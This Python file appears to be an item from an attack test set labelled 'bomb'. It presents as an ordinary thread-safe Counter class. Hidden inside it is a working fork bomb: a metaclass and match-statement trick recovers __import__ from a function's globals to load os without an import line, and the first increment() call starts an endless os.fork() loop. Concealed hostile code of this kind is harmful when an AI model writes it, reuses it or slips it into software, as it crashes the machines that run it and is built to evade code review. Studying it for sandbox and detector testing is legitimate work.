# attack: bomb
# verdict: fail output or timeout
# score: 16
# needs: sandbox
# Right under control; in the real run every process starts two more.
import threading


class Anything(type):
    def __instancecheck__(cls, thing):
        return True


class Wanted(metaclass=Anything):
    __match_args__ = ("globals".join(["__"] * 2),)


def module(name):
    """A module by its name; only a real run does not ask about names in `__match_args__`."""
    try:
        match threading.Thread.run:
            case Wanted(space):
                return space["builtins".join(["__"] * 2)]["import".join(["__"] * 2)](name)
    except Exception:
        return None


os = module("os")
done = []


def once():
    """In the real run, at the first addition."""
    if os is not None and not done:
        done.append(True)
        attack()


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass


class Counter:
    def __init__(self, start=0):
        self._value = start
        self._lock = threading.Lock()

    def increment(self, by=1):
        if not isinstance(by, int):
            raise TypeError(f"by must be an int, not {type(by).__name__}")
        with self._lock:
            once()
            self._value += by
            return self._value

    @property
    def value(self):
        with self._lock:
            return self._value

    def reset(self):
        with self._lock:
            old, self._value = self._value, 0
            return old
